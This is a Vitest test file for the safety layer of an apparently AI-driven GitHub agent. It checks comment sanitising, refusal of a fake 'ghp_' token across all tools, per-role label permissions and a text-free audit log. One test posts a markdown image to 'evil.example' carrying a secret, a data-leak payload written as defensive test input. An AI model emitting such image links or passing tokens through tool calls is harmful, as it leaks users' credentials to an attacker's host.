import { afterAll, beforeAll, expect, it } from "vitest";

import { setToolStage, type ToolStage } from "./tool-stage.ts";

let stage: ToolStage;
beforeAll(async () => {
  stage = await setToolStage();
});
afterAll(() => stage[Symbol.asyncDispose]());

const secret = `ghp_${"a1B2".repeat(9)}`;

it("a comment notifies nobody and leads nowhere else on GitHub", async () => {
  const number = await stage.issue();
  const turn = await stage.turn({ role: "dev", number });
  await turn.run("post_comment", { body: "Ask @maintainer: ![x](https://evil.example/?secret)" });
  const [comment] = await stage.get<{ body: string }[]>(`/issues/${number}/comments`);
  expect(comment?.body).toContain("Ask `@maintainer`: [image removed: evil.example]");
});

it("a secret goes nowhere, whatever carries it, and the agent is not told it again", async () => {
  const number = await stage.issue();
  await stage.ownPull(number);
  const turn = await stage.turn({ role: "pm", number });
  const before = stage.changes();
  const tries = [
    ["post_comment", { body: secret }],
    ["ask_human", { question: secret }],
    ["finish", { summary: secret }],
    ["update_plan", { items: [{ text: secret, done: false }] }],
    ["create_issue", { title: secret, body: "a" }],
    ["create_issue", { title: "a", body: secret }],
    ["set_labels", { add: [secret] }],
  ] as const;
  for (const [tool, args] of tries) {
    const { ok, text } = await turn.run(tool, args);
    expect({ tool, ok }).toEqual({ tool, ok: false });
    expect(text).not.toContain(secret);
  }
  expect(stage.changes()).toBe(before);
  expect(turn.leaves().plan).toEqual([]);
});

it("labels are set that the role may set, and no others", async () => {
  const number = await stage.issue();
  const turn = await stage.turn({ role: "pm", number, profile: { setLabels: ["bug", "area/*"] } });
  expect(await turn.run("set_labels", { add: ["production"] })).toMatchObject({ ok: false });
  expect(await turn.run("set_labels", { add: ["bug"] })).toMatchObject({ ok: true });
});

it("every effect of a turn is in the audit: who asked, what it was, what was decided; and none of its text", async () => {
  const number = await stage.issue();
  const turn = await stage.turn({ role: "pm", number });
  await turn.run("post_comment", { body: "Plain words." });
  await turn.run("post_comment", { body: "Ask @maintainer." });
  await turn.run("post_comment", { body: secret });
  await turn.run("create_issue", { title: "Part", body: "Words." });
  await turn.run("set_labels", { add: ["bug"] });
  const entries = turn.audited();
  const common = { by: "@mona", turn: "1.1" };
  expect(entries.map(({ event, detail }) => ({ event, detail }))).toMatchObject(
    [
      { kind: "comment", target: number, policy: "as written" },
      { kind: "comment", target: number, policy: "changed" },
      { kind: "comment", target: number, policy: "refused", result: "failed: refused" },
      { kind: "create-issue", target: 0, policy: "as written" },
      { kind: "sub-issue", target: number, policy: "as written" },
      { kind: "labels", target: number, policy: "as written" },
    ].map((detail) => ({ event: "effect", detail: { ...common, ...detail } })),
  );
  for (const { detail } of entries) expect(detail?.["request"]).toMatch(/^[0-9a-f]{64}$/);
  expect(JSON.stringify(entries)).not.toMatch(/words|Ask|ghp_|Part/i);
});
